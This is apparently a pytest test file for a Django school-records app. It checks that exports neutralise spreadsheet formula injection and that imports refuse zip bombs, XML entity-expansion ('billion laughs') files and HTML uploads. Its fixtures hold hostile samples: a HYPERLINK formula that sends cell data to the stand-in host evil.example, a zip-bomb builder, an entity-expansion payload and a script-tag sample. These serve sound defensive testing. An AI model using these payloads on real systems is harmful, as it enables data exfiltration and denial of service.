"""Exports that a spreadsheet cannot turn into formulas; uploads refused by type or as zip bombs."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse

from jiaoyun.core.errors import DomainError
from jiaoyun.exchange.models import ImportBatch
from jiaoyun.exchange.services import import_file
from jiaoyun.reports.export import Column, export_response

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HARMLESS = ["张三", "1+1", "a=b", "530521********0017"]


def _export(user, fmt: str, encoding: str = "utf-8") -> bytes:
    request = RequestFactory().get("/", {"format": fmt, "encoding": encoding})
    request.user = user
    values = [*DANGEROUS, *HARMLESS, -2, 3.5]
    response = export_response(request, rows=values, columns=[Column("=备注", lambda v: v)], filename="测试",
                               object_type="test.Row", personal=False)  # fmt: skip
    return response.content


@pytest.mark.parametrize("encoding", ["utf-8", "gbk"])
def test_csv_export_neutralises_formula_cells(county_admin, encoding):
    data = _export(county_admin, "csv", encoding)
    text = data.decode("utf-8-sig" if encoding == "utf-8" else "gb18030")
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))]
    assert cells[0] == "'=备注"
    assert cells[1 : 1 + len(DANGEROUS)] == ["'" + v for v in DANGEROUS]
    assert cells[1 + len(DANGEROUS) : 1 + len(DANGEROUS) + len(HARMLESS)] == HARMLESS
    assert cells[-2:] == ["-2", "3.5"]  # numbers are numbers, not formulas


def test_xlsx_export_keeps_formula_like_text_as_text(county_admin):
    sheet = openpyxl.load_workbook(io.BytesIO(_export(county_admin, "xlsx"))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    for cell, value in zip(cells, [*DANGEROUS, *HARMLESS], strict=False):
        assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == value, value  # CR is stored escaped
    assert cells[-2].value == -2 and cells[-2].data_type == "n"
    assert sheet.cell(1, 1).data_type == "s"


def _bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            for _ in range(30):
                fh.write(b"\x00" * (1 << 20))
    return buf.getvalue()


def test_xlsx_zip_bomb_is_refused_before_it_is_read(county_admin, media_root):
    bomb = _bomb()
    assert len(bomb) < 200_000
    with pytest.raises(DomainError, match="压缩比异常"):
        import_file(actor=county_admin, kind="students", upload=io.BytesIO(bomb), file_name="名册.xlsx")
    batch = ImportBatch.objects.get()
    assert batch.status == "failed" and "压缩比异常" in batch.message


def test_zip_total_limit_is_a_setting(county_admin, media_root, settings):
    settings.JIAOYUN = {**settings.JIAOYUN, "UPLOAD_ZIP_MAX_BYTES": 10 * 1024 * 1024, "UPLOAD_ZIP_MAX_RATIO": 10**6}
    with pytest.raises(DomainError, match="解压后为30 MB，超过上限10 MB"):
        import_file(actor=county_admin, kind="students", upload=io.BytesIO(_bomb()), file_name="名册.xlsx")


def test_an_import_of_another_type_is_refused(client, county_admin, media_root):
    client.force_login(county_admin)
    response = client.post(
        reverse("exchange:upload", args=["students"]),
        {"file": SimpleUploadedFile("名册.html", b"<html><script>alert(1)</script></html>")},
    )
    assert response.status_code == 400 and "类型不支持" in response.content.decode()
    assert not ImportBatch.objects.exists()
    assert not (media_root / "imports").exists() or not any((media_root / "imports").iterdir())


LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol%s;" % (i - 1 if i > 1 else "")) * 10}">' for i in range(1, 10))
    + "]>\n"
)


def _with_entities(part: str) -> bytes:
    """A valid roster whose ``part`` declares entities (billion laughs) and refers to them."""
    from jiaoyun.exchange.tests.helpers import id_no, xlsx_bytes

    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["姓名", "身份证号"], ["张三", id_no(1, 1)]])))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == part:
                text = data.decode().split("?>", 1)[1].replace("张三", "&lol9;", 1)
                data = (LAUGHS + text.lstrip()).encode()
            zf.writestr(info.filename, data)
    return buf.getvalue()


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml"])
def test_xlsx_declaring_xml_entities_is_refused_and_nothing_is_written(county_admin, media_root, part):
    from jiaoyun.people.models import Student

    with pytest.raises(DomainError, match="文件“名册.xlsx”.*实体") as refused:
        import_file(actor=county_admin, kind="students", upload=io.BytesIO(_with_entities(part)), file_name="名册.xlsx")
    batch = ImportBatch.objects.get()
    assert batch.status == "failed" and batch.message == str(refused.value)
    assert (batch.total, batch.new) == (0, 0) and not batch.rejections.exists()
    assert not Student.objects.exists()
